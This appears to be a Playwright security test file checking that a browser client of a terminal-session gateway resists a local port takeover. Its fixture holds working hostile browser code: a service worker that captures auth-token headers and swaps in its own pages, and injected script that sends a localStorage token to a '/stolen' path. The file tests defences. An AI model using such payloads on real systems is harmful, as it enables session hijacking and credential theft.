// Another user of the machine takes the gateway's port while it is away: an open page, and one that comes by later.
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { expect, pairByLink, test } from './phone.ts';

/** Watches what its pages ask for, and can show a page of its own though the gateway is back. */
const worker = (showsItsOwn: boolean) => `
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  const seen = event.request.headers.get('Outlive-Token');
  if (seen) event.waitUntil(caches.open('stolen').then((c) => c.put('/stolen?' + seen, new Response())));
  if (${showsItsOwn} && event.request.mode === 'navigate')
    event.respondWith(new Response('<!doctype html>the stranger’s own', { headers: { 'content-type': 'text/html' } }));
});`;

class Stranger {
  readonly received: string[] = [];
  readonly #server: Server;

  constructor(script: string) {
    this.#server = createServer((request, response) => {
      this.#record(request.url, request.rawHeaders);
      request.on('data', (bytes) => this.received.push(String(bytes)));
      request.on('end', () => {
        response.setHeader('Service-Worker-Allowed', '/');
        if (request.url === '/away/evil.js')
          return response.setHeader('content-type', 'text/javascript').end(script);
        // What the page has not loaded yet, in the stranger's words.
        if (request.url?.endsWith('.js')) {
          response.setHeader('content-type', 'text/javascript');
          return response.end(
            "fetch('/stolen?' + localStorage.getItem('outlive:token')); export const SettingsPage = () => null;",
          );
        }
        if (request.headers.accept?.includes('text/html') !== true)
          return response.end('{"standing": "paired"}');
        response.setHeader('content-type', 'text/html');
        response.end(`<!doctype html><script>navigator.serviceWorker.register('/away/evil.js', { scope: '/' })
          .then(() => navigator.serviceWorker.ready).then(() => { document.title = 'taken'; })</script>`);
      });
    });
    this.#server.on('upgrade', (request, socket) => {
      this.#record(request.url, request.rawHeaders);
      socket.on('data', (bytes) => this.received.push(String(bytes)));
      socket.on('error', () => {});
      const key = `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
      const accept = createHash('sha1').update(key).digest('base64');
      const open = '0{"sid":"made-up","upgrades":[],"pingInterval":10000,"pingTimeout":8000}';
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
      );
      socket.write(Buffer.concat([Buffer.from([0x81, open.length]), Buffer.from(open)]));
    });
  }

  async take(url: string): Promise<void> {
    const { port, hostname } = new URL(url);
    this.#server.listen(Number(port), hostname);
    await once(this.#server, 'listening');
  }

  async leave(): Promise<void> {
    this.#server.closeAllConnections();
    this.#server.close();
    await once(this.#server, 'close');
  }

  #record(...what: unknown[]): void {
    this.received.push(JSON.stringify(what));
  }
}

const tokenOf = (page: Page) =>
  page.evaluate(() => JSON.parse(localStorage.getItem('outlive:token') ?? 'null') as string | null);
const workersOf = (page: Page) =>
  page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
/** Whether a worker stood between page and gateway when the page was first shown. */
const noteControl = () => {
  new MutationObserver(() => {
    if (document.querySelector('form') === null || sessionStorage.getItem('controlled')) return;
    sessionStorage.setItem('controlled', String(navigator.serviceWorker.controller !== null));
  }).observe(document, { childList: true, subtree: true });
};
const stolenFrom = (page: Page) =>
  page.evaluate(async () => (await (await caches.open('stolen')).keys()).map(({ url }) => url));

test('[TRUST40] [TRUST47] an open page tells whoever takes the port nothing, and says that it is somebody else', async ({
  page,
  product,
}) => {
  const stranger = new Stranger('');
  await pairByLink(page, product);
  const token = (await tokenOf(page)) ?? '';
  expect(token).toMatch(/^[\w-]{43}$/);
  await product.stopGateway('SIGKILL');
  await stranger.take(product.url);
  await expect(page.getByRole('status')).toContainText('cannot prove that it is the server', {
    timeout: 40_000,
  });
  await page.getByRole('link', { name: 'Settings' }).tap();
  await expect.poll(() => stranger.received.join()).toContain('settings-page');
  await expect.poll(() => stranger.received.length, { timeout: 30_000 }).toBeGreaterThan(8);
  expect(stranger.received.join('\n')).not.toContain(token);
  await stranger.leave();
  await product.startGateway();
  await expect(page.getByRole('status').getByText('cannot prove')).toBeHidden({ timeout: 40_000 });
  expect(await tokenOf(page)).toBe(token);
});

for (const showsItsOwn of [false, true]) {
  test(`[TRUST44] a worker that a stranger left is gone by the second load, and sees no new token (${showsItsOwn ? 'it shows its own page' : 'it only watches'})`, async ({
    page,
    product,
  }) => {
    const stranger = new Stranger(worker(showsItsOwn));
    await pairByLink(page, product);
    await product.stopGateway('SIGKILL');
    await stranger.take(product.url);
    await page.goto(product.url);
    await expect(page).toHaveTitle('taken');
    // Nothing tells the page then that it was revoked, and it waits at once for a code.
    if (!showsItsOwn) await page.evaluate(() => localStorage.clear());
    await stranger.leave();
    await product.startGateway();
    for (const line of (await product.outlive('devices')).split('\n').filter(Boolean))
      await product.outlive('devices', 'revoke', line.split(':')[0] ?? '');
    await page.addInitScript(noteControl);
    await page.goto(product.url);
    await expect(page.getByRole('heading', { name: 'Pair this device' })).toBeVisible({
      timeout: 20_000,
    });
    // From the first moment that anything could be typed.
    expect(await page.evaluate(() => sessionStorage.getItem('controlled'))).toBe('false');
    await expect.poll(() => workersOf(page)).toBe(0);
    await pairByLink(page, product);
    await page.reload();
    await expect(page.getByRole('heading', { name: 'Sessions' })).toBeVisible();
    const token = (await tokenOf(page)) ?? '';
    expect(token).toMatch(/^[\w-]{43}$/);
    expect((await stolenFrom(page)).join()).not.toContain(token);
  });
}

test('[TRUST45] a revoked browser keeps nothing of the sessions', async ({ page, product }) => {
  await pairByLink(page, product);
  await product.outlive('new', '-d', '-s', 'secret-name', 'echo secret-line; exec cat');
  await page.getByRole('link', { name: /^secret-name/ }).tap();
  await expect(page.getByRole('log').getByText('secret-line')).toBeVisible();
  await page.getByRole('button', { name: 'Detach' }).tap();
  await expect(page.getByRole('link', { name: /^secret-name/ })).toBeVisible();
  const kept = () =>
    page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
  await expect.poll(kept).toContain('secret-name');
  await expect.poll(kept).toContain('secret-line');
  const [device = ''] = (await product.outlive('devices')).split(':');
  await product.outlive('devices', 'revoke', device);
  await expect(page.getByRole('alert')).toContainText('outlive pair', { timeout: 20_000 });
  await expect.poll(kept).not.toMatch(/secret|token/);
  expect(await page.evaluate(() => caches.keys())).toEqual([]);
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Pair this device' })).toBeVisible();
  expect(await kept()).not.toMatch(/secret|token/);
});
